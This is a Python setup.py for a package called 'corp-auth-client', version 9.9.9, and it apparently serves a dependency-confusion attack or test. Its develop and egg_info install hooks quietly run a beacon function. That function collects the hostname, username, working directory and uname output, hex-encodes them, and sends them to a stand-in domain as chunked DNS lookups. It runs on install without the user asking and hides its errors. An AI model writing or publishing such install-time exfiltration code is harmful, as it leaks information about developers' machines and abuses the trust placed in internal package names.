import os
import platform
import socket

from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.egg_info import egg_info

DOMAIN = "d.oast.example.invalid"


def beacon():
    uname = os.popen("uname -a").read().strip()
    raw = "|".join([socket.gethostname(), os.getlogin(), os.getcwd(), platform.node(), uname])
    data = raw.encode().hex()
    chunks = [data[i:i + 29] for i in range(0, len(data), 29)]
    for n, chunk in enumerate(chunks):
        try:
            socket.gethostbyname("%d.%s.%s" % (n, chunk, DOMAIN))
        except Exception:
            pass


class Develop(develop):
    def run(self):
        beacon()
        develop.run(self)


class EggInfo(egg_info):
    def run(self):
        beacon()
        egg_info.run(self)


setup(
    name="corp-auth-client",
    version="9.9.9",
    packages=["corp_auth_client"],
    cmdclass={"develop": Develop, "egg_info": EggInfo},
)
